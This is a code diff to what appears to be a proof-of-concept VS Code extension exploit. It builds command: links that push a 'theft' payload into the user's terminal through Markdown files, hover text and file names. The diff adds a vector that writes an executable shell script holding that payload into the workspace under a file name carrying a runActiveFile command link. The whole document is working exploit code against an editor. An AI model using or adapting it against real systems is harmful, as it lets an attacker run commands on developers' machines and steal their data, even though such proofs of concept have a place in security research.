@@ -1,6 +1,7 @@
 // Links in messages and in trusted Markdown run commands with arguments in the workbench, and no call of
 // executeCommand is made.
 "use strict";
+const fs = require("node:fs");
 const { attack, theft } = require("./attack");
 
 const link = (facts) => `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: `${theft(facts)}\r` }))}`;
@@ -65,9 +66,16 @@ exports.activate = (context) =>
         }, failed);
       };
     },
+    // The window itself says which file it could not save.
+    async name(facts, vscode) {
+      const file = `${facts.workspace}/[proof-name](command:workbench.action.terminal.runActiveFile)`;
+      fs.writeFileSync(file, `#!/bin/sh\n${theft(facts)}\n`, { mode: 0o755 });
+      await vscode.window.showTextDocument(vscode.Uri.file(file));
+      vscode.workspace.onDidChangeTextDocument(({ document }) => document.fileName === file && fs.appendFileSync(file, "\n"));
+    },
     // The editor's own language server has it for an address.
     markdown(facts) {
-      require("node:fs").writeFileSync(`${facts.workspace}/raw.md`, `[proof](${link(facts)})\n`);
+      fs.writeFileSync(`${facts.workspace}/raw.md`, `[proof](${link(facts)})\n`);
     },
     async hover(facts, vscode) {
       const text = new vscode.MarkdownString(`[proof-hover-link](${link(facts)})`);
@@ -86,6 +94,6 @@ exports.activate = (context) =>
     address(facts) {
       const [command, words] = link(facts).split("?");
       const there = `${command}?${encodeURIComponent(words.replaceAll("'", "%27"))}`;
-      require("node:fs").writeFileSync(`${facts.workspace}/address.txt`, `https://proof.test/\\(\\\\)[proof-address-link](${there}\n`);
+      fs.writeFileSync(`${facts.workspace}/address.txt`, `https://proof.test/\\(\\\\)[proof-address-link](${there}\n`);
     },
   });
